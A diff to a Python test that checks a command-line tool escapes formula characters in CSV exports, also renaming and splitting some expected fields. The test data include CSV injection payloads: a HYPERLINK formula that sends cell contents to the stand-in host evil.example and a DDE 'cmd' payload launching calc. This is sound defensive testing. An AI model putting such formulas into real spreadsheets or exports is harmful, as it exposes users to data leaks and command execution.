@@ -358,18 +358,20 @@ def test_csv_cells_starting_with_formula_characters_are_neutralised(run, tmp_pat
     rows = {r["id"]: r for r in _csv(result.stdout)}
     assert rows["g1"]["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
     assert rows["k1"]["title"] == "'+cmd|' /C calc'!A0"
-    assert rows["k1"]["target"] == "'-10 @SUM(A1:A9)"
+    assert rows["k1"]["target"] == "-10"  # a number stays a number
+    assert rows["k1"]["target_text"] == "'-10 @SUM(A1:A9)"
+    assert rows["k1"]["unit"] == "'@SUM(A1:A9)"
     assert rows["g2"]["title"] == "'-2+3"
     assert rows["k1"]["latest_value"] == "-2.5"  # a number stays a number
     assert float(rows["k1"]["progress"]) == pytest.approx(0.25)
     for row in rows.values():
         for value in row.values():
-            assert not value or value[0] not in "=+-@\t\r" or value == "-2.5", row
+            assert not value or value[0] not in "=+-@\t\r" or value in ("-2.5", "-10"), row
     result = run("groups", "--data", data, "--as-of", AS_OF, "--format", "csv")
     assert result.exit_code == 0, result.output
     board = _csv(result.stdout)[0]
     assert board["name"] == "'=1+1"
-    assert board["goals"] == "2"
+    assert board["items"] == "2"
     result = run("overdue", "--data", data, "--as-of", "2027-01-01", "--format", "csv")
     assert result.exit_code == 0, result.output
     assert {r["title"][:2] for r in _csv(result.stdout)} <= {"'=", "'+", "'-"}
